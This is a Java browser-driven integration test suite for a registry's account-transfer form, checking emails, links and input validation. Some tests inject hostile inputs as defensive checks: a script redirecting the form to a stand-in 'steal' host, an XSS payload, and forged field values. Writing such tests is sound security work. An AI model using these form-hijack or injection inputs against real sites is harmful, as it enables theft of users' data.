package gov.dot.fmcsa.nationalregistry.it.transfer;

import static gov.dot.fmcsa.nationalregistry.it.support.LegacyFile.examiner;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import gov.dot.fmcsa.nationalregistry.it.support.Await;
import gov.dot.fmcsa.nationalregistry.it.support.BrowserJourney;
import gov.dot.fmcsa.nationalregistry.it.support.ImportInbox;
import gov.dot.fmcsa.nationalregistry.it.support.LegacyFile;
import gov.dot.fmcsa.nationalregistry.it.support.Mails;
import gov.dot.fmcsa.nationalregistry.it.support.RegistryDeployment;
import gov.dot.fmcsa.nationalregistry.it.support.TestMailServer;
import gov.dot.fmcsa.nationalregistry.it.support.TestNumbers;
import gov.dot.fmcsa.nationalregistry.it.support.TransferFormClient;
import jakarta.mail.internet.MimeMessage;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.openqa.selenium.By;
import org.openqa.selenium.Keys;
import org.openqa.selenium.NoAlertPresentException;

/**
 * The transfer as people live it (docs/product.md flows 1-4), in Chromium against the real EAR: the form, the
 * neutral answer, the emails and their links, the new-email repair, closed account types and
 * format errors. Every page is saved to {@code target/screenshots/journey-*.png} for review.
 * Accounts are imported through the import inbox; numbers 85xxxxxxxx.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class TransferJourneyIT extends BrowserJourney {

    static final String SENT = "Details on how to proceed have been sent to the email address on file, if it exists.";
    private static final Duration MAIL_PATIENCE = Duration.ofSeconds(30);
    private static final By NUMBER = By.id("transfer:number");
    private static final By LICENSE = By.id("transfer:license");
    private static final By STATE = By.id("transfer:licenseState");
    private static final By SUBMIT = By.id("transfer:submit");

    @Deployment(testable = false)
    static EnterpriseArchive deployment() {
        return RegistryDeployment.realEar();
    }

    @Test
    void anExaminerTransfersWithTheKeyboardAndTheEmailLeadsBackToSignIn() throws Exception {
        String number = TestNumbers.next("85");
        String email = "journey." + number + "@example.com";
        ImportInbox.importExaminer(number, email, "", "MD|MA|J-" + number + "|2030-01-01");

        browser.go("/");
        browser.screenshot("journey-01-home");
        browser.click(By.linkText("Sign in")).awaitPath("/sign-in.xhtml");
        browser.screenshot("journey-02-sign-in");
        browser.click(By.linkText("Transfer or Create Account")).awaitPath("/transfer.xhtml");
        browser.screenshot("journey-03-transfer");
        assertThat(browser.find(By.id("transfer:type:0")).isSelected()).as("Medical Examiner is chosen").isTrue();

        // The keyboard only: type, Tab to the next field, choose the State, Tab to Submit, Enter.
        browser.type(NUMBER, number, Keys.TAB);
        browser.press("j-" + number, Keys.TAB);
        assertThat(browser.driver().switchTo().activeElement().getAttribute("id")).isEqualTo("transfer:licenseState");
        browser.selectByValue(STATE, "MA");
        browser.screenshot("journey-04-transfer-filled");
        browser.press(Keys.TAB);
        assertThat(browser.driver().switchTo().activeElement().getAttribute("id")).isEqualTo("transfer:submit");
        browser.press(Keys.ENTER).awaitPath("/transfer-sent.xhtml");

        assertThat(browser.text(By.cssSelector("p.lead"))).isEqualTo(SENT);
        browser.screenshot("journey-05-transfer-sent");

        MimeMessage migrated = TestMailServer.awaitMessagesTo(email, 1, MAIL_PATIENCE).get(0);
        assertThat(Mails.subject(migrated)).contains("migrated");
        String signIn = Mails.buttonLink(migrated);
        assertThat(signIn).isEqualTo(browser.url("/sign-in.xhtml"));
        assertThat(Mails.text(migrated)).contains(signIn);

        browser.go(signIn);
        assertThat(browser.path()).isEqualTo("/sign-in.xhtml");
        assertThat(browser.text(By.tagName("h1"))).isEqualTo("Sign in to the National Registry");
        assertThat(browser.find(By.linkText("Log in")).isDisplayed()).isTrue();
        assertThat(browser.find(By.linkText("Log in")).getAttribute("href"))
                .isEqualTo(browser.url("/login-gov/sign-in"));
        browser.screenshot("journey-06-sign-in-from-email");
    }

    @Test
    void anExaminerWhoseEmailIsSharedSetsANewOneThroughTheEmailedLinks() throws Exception {
        String number = TestNumbers.next("85");
        String other = TestNumbers.next("85");
        String shared = "Dup." + number + "@Example.com";
        String fresh = "fresh." + number + "@example.org";
        // The other account has the address as its secondary email, in other letter case.
        ImportInbox.importEveryRow("journey-dup-" + number, LegacyFile.withHeader()
                .line(examiner(number, shared, "", "MD|TX|D-" + number + "|2030-01-01"))
                .line(examiner(other, "other." + other + "@example.com", shared.toLowerCase(),
                        "MD|TX|D-" + other + "|2030-01-01")));

        browser.go("/transfer.xhtml");
        fillExaminer(number, "D-" + number, "TX");
        browser.click(SUBMIT).awaitPath("/transfer-sent.xhtml");
        assertThat(browser.text(By.cssSelector("p.lead"))).isEqualTo(SENT);

        MimeMessage notMigrated = TestMailServer.awaitMessagesTo(shared, 1, MAIL_PATIENCE).get(0);
        assertThat(Mails.subject(notMigrated)).contains("not migrated");
        String setLink = Mails.buttonLink(notMigrated);
        assertThat(setLink).matches(java.util.regex.Pattern.quote(browser.url("/new-email.xhtml?token="))
                + "[A-Za-z0-9_-]{43}");
        assertThat(Mails.text(notMigrated)).contains(setLink);

        browser.go(setLink);
        assertThat(browser.text(By.tagName("h1"))).isEqualTo("Set a new email address");
        browser.screenshot("journey-10-new-email");
        browser.type(By.id("new-email:email"), fresh);
        browser.type(By.id("new-email:repeated-email"), fresh);
        browser.click(By.id("new-email:submit")).awaitPath("/new-email-sent.xhtml");
        browser.screenshot("journey-11-new-email-sent");

        MimeMessage confirmation = TestMailServer.awaitMessagesTo(fresh, 1, MAIL_PATIENCE).get(0);
        String confirmLink = Mails.buttonLink(confirmation);
        assertThat(confirmLink).startsWith(browser.url("/confirm-email.xhtml?token="));
        assertThat(TestMailServer.messagesTo(shared)).hasSize(1);

        browser.go(confirmLink);
        assertThat(browser.mainText()).contains("Confirm your new email address").contains(fresh);
        browser.screenshot("journey-12-confirm-email");
        browser.click(By.id("confirm-email:confirm")).awaitPath("/email-confirmed.xhtml");
        assertThat(browser.text(By.tagName("h1"))).isEqualTo("Email address confirmed");
        browser.screenshot("journey-13-email-confirmed");

        List<MimeMessage> toFresh = TestMailServer.awaitMessagesTo(fresh, 2, MAIL_PATIENCE);
        assertThat(Mails.subject(toFresh.get(1))).contains("migrated");
        assertThat(Mails.buttonLink(toFresh.get(1))).isEqualTo(browser.url("/sign-in.xhtml"));

        browser.go(setLink);
        assertThat(browser.text(By.tagName("h1"))).isEqualTo("This link was already used");
        browser.screenshot("journey-14-link-already-used");
    }

    @Test
    void aFormMadeToPostElsewhereIsNotSentAndChromiumSaysWhy() {
        // What an injected script would do to a page: point its form at another site.
        browser.go("/transfer.xhtml");
        browser.driver().executeScript(
                "document.getElementById('transfer').action = 'https://forms.example.com/steal';");

        browser.click(SUBMIT);

        List<String> refusals = new ArrayList<>();
        Await.until(() -> {
            refusals.addAll(browser.contentSecurityPolicyViolations());
            return refusals;
        }, seen -> !seen.isEmpty());
        assertThat(refusals).as("console").allSatisfy(refusal -> assertThat(refusal).contains("form-action"));
        assertThat(browser.driver().getCurrentUrl()).as("still on the registry").startsWith(browser.url("/"));
    }

    @Test
    void aClosedAccountTypeCannotBeSubmitted() throws Exception {
        browser.go("/transfer.xhtml");
        assertThat(browser.text(By.cssSelector("label[for='transfer:type:2']")))
                .isEqualTo("Third Party (functionality will be available at a later date)");

        browser.click(By.cssSelector("label[for='transfer:type:2']"));

        assertThat(browser.find(By.id("transfer:type:2")).isSelected()).isTrue();
        assertThat(browser.find(By.cssSelector("#transfer\\:fields .notice")).getText())
                .contains("functionality will be available at a later date");
        assertThat(browser.find(By.cssSelector("#transfer\\:fields .notice")).isDisplayed()).isTrue();
        assertThat(browser.findAll(NUMBER)).isEmpty();
        assertThat(browser.find(SUBMIT).isEnabled()).isFalse();
        browser.screenshot("journey-20-third-party-closed");

        // Even a button forced open sends nothing.
        browser.driver().executeScript("arguments[0].disabled = false; arguments[0].click();", browser.find(SUBMIT));
        browser.settle();
        assertThat(browser.path()).isEqualTo("/transfer.xhtml");
        assertThat(browser.mainText()).doesNotContain(SENT).contains("functionality will be available at a later date");
    }

    @Test
    void formatErrorsAreShownNextToTheirFieldsAndNothingIsStored() throws Exception {
        String number = TestNumbers.next("85");
        String email = "format." + number + "@example.com";
        String license = "F-" + number;
        ImportInbox.importExaminer(number, email, "", "MD|NY|" + license + "|2030-01-01");
        browser.go("/transfer.xhtml");

        browser.click(SUBMIT);
        assertThat(message("number")).isEqualTo("Enter the National Registry number.");
        assertThat(message("license")).isEqualTo("Enter the professional license number.");
        assertThat(message("licenseState")).isEqualTo("Choose the State that issued the license.");
        assertThat(browser.find(NUMBER).getAttribute("aria-invalid")).isEqualTo("true");
        browser.screenshot("journey-30-errors-empty");

        // The other fields are right each time: were the wrong one accepted, this account would be emailed.
        fillExaminer(number.substring(0, 5) + "ABCDE", license, "NY");
        browser.click(SUBMIT);
        assertThat(message("number")).isEqualTo("A National Registry number has exactly 10 digits.");
        assertThat(message("license")).isEmpty();
        assertThat(message("licenseState")).isEmpty();
        browser.screenshot("journey-31-errors-letters");

        String lookAlike = fullwidth(number);
        fillExaminer(lookAlike, license, "NY");
        assertThat(browser.find(NUMBER).getDomProperty("value")).isEqualTo(lookAlike);
        browser.click(SUBMIT);
        assertThat(message("number")).isEqualTo("A National Registry number has exactly 10 digits.");
        browser.screenshot("journey-32-errors-fullwidth-digits");

        // A 10,000-character paste: all of it is checked (were it cut to 10 and 20 characters, it would be right).
        String tenThousand = number.repeat(1000);
        String longLicense = license.repeat(1000).substring(0, 10_000);
        fillExaminer("", "", "NY");
        browser.paste(NUMBER, tenThousand);
        browser.paste(LICENSE, longLicense);
        assertThat(browser.find(NUMBER).getDomProperty("value")).isEqualTo(tenThousand);
        browser.click(SUBMIT);
        assertThat(message("number")).isEqualTo("A National Registry number has exactly 10 digits.");
        assertThat(message("license")).isEqualTo("A license number has 1 to 20 letters, digits or dashes.");
        browser.screenshot("journey-33-errors-ten-thousand-characters");

        String script = "<script>alert(1)</script>";
        fillExaminer(number, script, "NY");
        browser.click(SUBMIT);
        assertThatThrownBy(() -> browser.driver().switchTo().alert()).isInstanceOf(NoAlertPresentException.class);
        assertThat(message("license")).isEqualTo("A license number has 1 to 20 letters, digits or dashes.");
        assertThat(browser.find(LICENSE).getDomProperty("value")).as("shown as typed").isEqualTo(script);
        browser.screenshot("journey-34-errors-script");

        // What no browser sends: the raw answers, escaped, a message next to the field, never a 500.
        TransferFormClient client = new TransferFormClient();
        HttpResponse<String> scriptAnswer = client.post(client.openForm(),
                TransferFormClient.examinerFields(number, script, "NY"));
        assertThat(scriptAnswer.statusCode()).isEqualTo(200);
        assertThat(scriptAnswer.body()).doesNotContain(script).contains("&lt;script&gt;alert(1)&lt;/script&gt;");

        HttpResponse<String> elevenDigits = client.post(client.openForm(),
                TransferFormClient.examinerFields(number + "1", license, "NY"));
        assertThat(elevenDigits.statusCode()).isEqualTo(200);
        assertThat(messageIn(elevenDigits.body(), "number"))
                .isEqualTo("A National Registry number has exactly 10 digits.");

        HttpResponse<String> forgedState = client.post(client.openForm(),
                TransferFormClient.examinerFields(number, license, "ZZ"));
        assertThat(forgedState.statusCode()).isEqualTo(200);
        assertThat(messageIn(forgedState.body(), "licenseState")).isEqualTo("Choose a State from the list.");

        Map<String, String> forgedTypes = Map.of("NOT_A_TYPE", "Choose an account type from the list.",
                "", "Choose an account type.");
        for (Map.Entry<String, String> forged : forgedTypes.entrySet()) {
            Map<String, String> fields = TransferFormClient.examinerFields(number, license, "NY");
            fields.put("transfer:type", forged.getKey());
            HttpResponse<String> answer = client.post(client.openForm(), fields);
            assertThat(answer.statusCode()).as(forged.getKey()).isEqualTo(200);
            assertThat(messageIn(answer.body(), "type")).as(forged.getKey()).isEqualTo(forged.getValue());
        }
        // A real type that the form does not offer: refused by Faces' own check of the list, whose message
        // is Faces' default ("transfer:type: Validation Error: Value is not valid"), not the page's.
        Map<String, String> administrator = TransferFormClient.examinerFields(number, license, "NY");
        administrator.put("transfer:type", "ADMINISTRATOR");
        HttpResponse<String> administratorAnswer = client.post(client.openForm(), administrator);
        assertThat(administratorAnswer.statusCode()).isEqualTo(200);
        assertThat(messageIn(administratorAnswer.body(), "type")).isNotBlank().doesNotContain("Exception");
        Map<String, String> closed = TransferFormClient.examinerFields(number, license, "NY");
        closed.put("transfer:type", "THIRD_PARTY");
        HttpResponse<String> closedAnswer = client.post(client.openForm(), closed);
        assertThat(closedAnswer.statusCode()).isEqualTo(200);
        assertThat(messageIn(closedAnswer.body(), "type"))
                .isEqualTo("Transfer for Third Party accounts: functionality will be available at a later date.");

        // Stored requests are processed within a second or two: none of the above was stored.
        Await.pause(Duration.ofSeconds(4));
        assertThat(TestMailServer.messagesTo(email)).isEmpty();

        // ... whereas the right values are, and the account's address does get its email.
        browser.go("/transfer.xhtml");
        fillExaminer(number, license, "NY");
        browser.click(SUBMIT).awaitPath("/transfer-sent.xhtml");
        assertThat(TestMailServer.awaitMessagesTo(email, 1, MAIL_PATIENCE)).hasSize(1);
    }

    /** Replaces whatever the examiner fields hold. */
    private void fillExaminer(String number, String license, String state) {
        browser.find(NUMBER).clear();
        if (!number.isEmpty()) {
            browser.type(NUMBER, number);
        }
        browser.find(LICENSE).clear();
        if (!license.isEmpty()) {
            browser.type(LICENSE, license);
        }
        browser.selectByValue(STATE, state);
    }

    /** The message shown next to a field of the transfer form, "" if none. */
    private String message(String field) {
        return browser.find(By.id("transfer:" + field + "-message")).getText();
    }

    /** The text of a field's message in a raw answer. */
    static String messageIn(String html, String field) {
        java.util.regex.Matcher matcher = java.util.regex.Pattern.compile(
                "id=\"transfer:" + field + "-message\"[^>]*>(.*?)</[a-z]+>").matcher(html);
        return matcher.find() ? matcher.group(1).replaceAll("<[^>]+>", "") : "(no message element)";
    }

    /** The same digits in their fullwidth forms (U+FF10 to U+FF19): they look like digits. */
    static String fullwidth(String digits) {
        StringBuilder lookAlike = new StringBuilder();
        digits.chars().forEach(c -> lookAlike.append((char) (c - '0' + '\uFF10')));
        return lookAlike.toString();
    }
}
